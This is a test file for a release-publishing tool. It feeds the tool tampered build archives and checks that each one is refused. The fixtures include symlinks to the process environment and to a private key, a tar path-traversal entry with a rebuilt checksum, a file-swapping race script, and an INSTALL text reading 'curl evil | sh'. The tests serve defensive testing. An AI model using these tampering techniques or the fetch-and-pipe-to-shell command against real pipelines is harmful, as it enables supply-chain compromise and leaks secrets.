import { execFileSync, spawn } from "node:child_process";
import {
  copyFileSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { Readable } from "node:stream";
import { deflateRawSync, gunzipSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Entry } from "../../src/archives/archive.ts";
import { archives } from "../../src/archives/index.ts";
import { Assault, expectRefused } from "../support/runs/assault.ts";
import { Bench } from "../support/runs/bench.ts";
import { buildShards, DownloadedShard } from "../support/runs/shards.ts";
import { expectWhole } from "../support/runs/whole.ts";
import { pack } from "../unit/archives/samples.ts";

const LINUX = "linux_amd64.tar.gz";
const WINDOWS = "windows_amd64.zip";
/** The commit's date: the one of everything that is packed. */
const DATE = new Date("2026-01-31T12:00:00Z");

let assault: Assault;
beforeAll(async () => {
  assault = await Assault.open();
}, 120_000);
afterAll(() => assault.bench.close());
beforeEach(() => assault.forget());

/** What is in an archive of ours. */
async function entriesOf(format: "tar.gz" | "zip", path: string): Promise<Entry[]> {
  const bytes = readFileSync(path);
  const open = (range?: { start: number; end: number }) =>
    Readable.from([range === undefined ? bytes : bytes.subarray(range.start, range.end + 1)]);
  const entries: Entry[] = [];
  for await (const { name, content } of archives[format].read({ size: bytes.length, open })) {
    const chunks: Uint8Array[] = [];
    for await (const chunk of content) chunks.push(chunk);
    const data = Buffer.concat(chunks);
    const executable = !/^[A-Z]/u.test(name);
    entries.push({ name, size: data.length, executable, open: () => Readable.from([data]) });
  }
  return entries;
}

function file(name: string, text: string): Entry {
  const data = Buffer.from(text);
  return { name, size: data.length, executable: false, open: () => Readable.from([data]) };
}

describe("the honest shards beside the attacks", () => {
  it("are published as they are", async () => {
    const { folder } = assault.shards();
    const { outcome } = await assault.publish(folder);
    await expectWhole(assault.bench, outcome);
  });
});

describe("an archive that is no plain file", () => {
  it("but a link to the environment of the publisher, whose secrets stay where they are", async () => {
    const { folder, shard } = assault.shards();
    const path = shard(1).archive(LINUX);
    rmSync(path);
    symlinkSync("/proc/self/environ", path);
    expectRefused(assault, await assault.publish(folder));
  });

  it("but a link to a file whose digest the manifest knows", async () => {
    const { folder, shard } = assault.shards();
    const secret = join(assault.bench.folder, "secret.pem");
    writeFileSync(secret, "-----BEGIN PRIVATE KEY-----");
    const path = shard(1).archive(LINUX);
    rmSync(path);
    symlinkSync(secret, path);
    shard(1).describe(LINUX, readFileSync(secret));
    expectRefused(assault, await assault.publish(folder));
  });

  it("but a link to the archive itself, in the folder of a shard that is a link", async () => {
    const { folder, shard } = assault.shards();
    renameSync(shard(1).folder, join(folder, ".hidden"));
    symlinkSync(join(folder, ".hidden"), shard(1).folder);
    expectRefused(assault, await assault.publish(folder));
  });

  it("but another name of a secret file", async () => {
    const { folder, shard } = assault.shards();
    const secret = join(assault.bench.folder, "another-secret.pem");
    writeFileSync(secret, "-----BEGIN PRIVATE KEY-----");
    const path = shard(1).archive(LINUX);
    rmSync(path);
    linkSync(secret, path);
    shard(1).describe(LINUX);
    expectRefused(assault, await assault.publish(folder));
  });

  it("but a pipe that nobody writes to, which is not waited for", async () => {
    const { folder, shard } = assault.shards();
    const path = shard(1).archive(LINUX);
    rmSync(path);
    execFileSync("mkfifo", [path]);
    const run = await assault.publish(folder);
    expectRefused(assault, run);
    expect(run.took).toBeLessThan(30_000);
  });

  it("but a folder", async () => {
    const { folder, shard } = assault.shards();
    const path = shard(1).archive(LINUX);
    rmSync(path);
    mkdirSync(path);
    expectRefused(assault, await assault.publish(folder));
  });
});

describe("an archive of other bytes", () => {
  it("than those that the manifest speaks of under another path", async () => {
    const { folder, shard } = assault.shards();
    const path = shard(1).archive(LINUX);
    copyFileSync(path, join(dirname(path), "honest"));
    const { manifest } = shard(1);
    for (const artifact of manifest.artifacts) artifact.path = "honest";
    shard(1).manifest = manifest;
    writeFileSync(path, "evil");
    expectRefused(assault, await assault.publish(folder, { args: ["--sign-each"] }));
  });

  it("of which there are 100 GB, and the disk has them not", async () => {
    const { folder, shard } = assault.shards();
    const path = shard(1).archive(LINUX);
    truncateSync(path, 100 * 2 ** 30);
    const { manifest } = shard(1);
    for (const artifact of manifest.artifacts) artifact.size = 100 * 2 ** 30;
    shard(1).manifest = manifest;
    const run = await assault.publish(folder);
    expectRefused(assault, run);
    expect(run.took).toBeLessThan(30_000);
  });

  it("that are exchanged all the time between the honest ones and others", async () => {
    const { folder, shard } = assault.shards();
    const path = shard(1).archive(LINUX);
    const honest = readFileSync(path);
    const evil = Buffer.from(honest);
    evil.writeUInt8(evil.readUInt8(40) ^ 1, 40);
    writeFileSync(`${path}.honest`, honest);
    writeFileSync(`${path}.evil`, evil);
    const racer = spawn(process.execPath, ["-e", RACER, path], { stdio: "ignore" });
    try {
      for (let round = 0; round < 3; round++) {
        assault.forget();
        const { outcome } = await assault.publish(folder);
        const released = assault.bench.published()?.assets.find(({ name }) => name.endsWith(LINUX));
        if (outcome.status === 0) expect(released?.content?.equals(honest)).toBe(true);
        else expect(assault.harm()).toEqual([]);
      }
    } finally {
      racer.kill("SIGKILL");
    }
  });
});

/** Puts the one or the other file in the place of the archive, as fast as it can. */
const RACER = `
const { copyFileSync, renameSync } = require("node:fs");
const path = process.argv[1];
for (let at = 0; ; at++) {
  copyFileSync(path + (at % 2 ? ".honest" : ".evil"), path + ".next");
  renameSync(path + ".next", path);
}`;

describe("an archive that holds something else than planned", () => {
  const packed = async (
    format: "tar.gz" | "zip",
    ending: string,
    change: (entries: Entry[]) => Entry[],
    date = DATE,
  ): Promise<string> => {
    const { folder, shard } = assault.shards();
    const at = [1, 2, 3].find((index) =>
      readdirSync(shard(index).folder).some((name) => name.endsWith(ending)),
    );
    const target = shard(at ?? 0);
    const entries = change(await entriesOf(format, target.archive(ending)));
    target.exchange(ending, await pack(archives[format], entries, date));
    return folder;
  };

  it.each<readonly [string, "tar.gz" | "zip", string, (entries: Entry[]) => Entry[]]>([
    ["a further program in a zip", "zip", WINDOWS, (all) => [...all, file("setup.exe", "MZ evil")]],
    ["a further text", "tar.gz", LINUX, (all) => [...all, file("INSTALL", "curl evil | sh")]],
    ["no license", "tar.gz", LINUX, (all) => all.filter(({ name }) => name !== "LICENSE")],
    [
      "another license",
      "tar.gz",
      LINUX,
      (all) => all.map((one) => (one.name === "LICENSE" ? file("LICENSE", "ours now\n") : one)),
    ],
    [
      "a longer license that begins alike",
      "zip",
      WINDOWS,
      (all) => all.map((one) => (one.name === "LICENSE" ? file("LICENSE", "MIT\n\n") : one)),
    ],
    [
      "a script in the place of the program",
      "tar.gz",
      LINUX,
      (all) =>
        all.map((one) =>
          one.name === "age" ? { ...file("age", "#!/bin/sh\nevil\n"), executable: true } : one,
        ),
    ],
    [
      "a text that can be executed",
      "tar.gz",
      LINUX,
      (all) => all.map((one) => ({ ...one, executable: true })),
    ],
  ])("%s", async (_, format, ending, change) => {
    expectRefused(assault, await assault.publish(await packed(format, ending, change)));
  });

  it("the same of another day", async () => {
    const folder = await packed("tar.gz", LINUX, (all) => all, new Date("2026-02-01T12:00:00Z"));
    expectRefused(assault, await assault.publish(folder));
  });

  it("a file that leads out of the folder where it is unpacked", async () => {
    const { folder, shard } = assault.shards();
    const tar = gunzipSync(readFileSync(shard(1).archive(LINUX)));
    const at = tar.indexOf("LICENSE");
    tar.write("../../x", at);
    const header = tar.subarray(at, at + 512);
    header.write(" ".repeat(8), 148);
    const sum = header.reduce((all, byte) => all + byte, 0);
    header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
    const ours = await pack(archives["tar.gz"], []);
    const trailer = gzipSync(tar).subarray(-8);
    const bytes = Buffer.concat([ours.subarray(0, 10), deflateRawSync(tar), trailer]);
    shard(1).exchange(LINUX, bytes);
    expectRefused(assault, await assault.publish(folder));
  });

  it("the program of another system", async () => {
    const { folder, shard } = assault.shards();
    const all = await entriesOf("tar.gz", shard(1).archive(LINUX));
    const others = await entriesOf("tar.gz", shard(2).archive("darwin_arm64.tar.gz"));
    const other = others.find(({ name }) => name === "age");
    const entries = all.map((one) => (one.name === "age" && other !== undefined ? other : one));
    shard(1).exchange(LINUX, await pack(archives["tar.gz"], entries, DATE));
    expectRefused(assault, await assault.publish(folder));
  });

  it("the program of another commit, packed as this one is", async () => {
    const another = await Bench.open();
    another.project.moveTag({ "evil.go": 'package main\n\nfunc init() { println("evil") }\n' });
    const foreign = join(another.folder, "foreign");
    await buildShards(another, foreign);
    const { folder, shard } = assault.shards();
    const evil = new DownloadedShard(join(foreign, "shard-1")).archive(LINUX);
    shard(1).exchange(LINUX, readFileSync(evil));
    await another.close();
    expectRefused(assault, await assault.publish(folder));
  });

  it("more behind its end", async () => {
    const { folder, shard } = assault.shards();
    const bytes = readFileSync(shard(1).archive(LINUX));
    shard(1).exchange(LINUX, Buffer.concat([bytes, Buffer.from("evil")]));
    expectRefused(assault, await assault.publish(folder));
  });
});

it("what was refused leaves no archive behind", async () => {
  const { folder, shard } = assault.shards();
  shard(3).exchange(WINDOWS, Buffer.from("evil"));
  const { outcome } = await assault.publish(folder);
  expect(outcome.status).toBe(1);
  expect(readdirSync(join(outcome.folder, "dist"))).toEqual([".gitignore"]);
  expect(statSync(shard(3).archive(WINDOWS)).size).toBe(4);
});
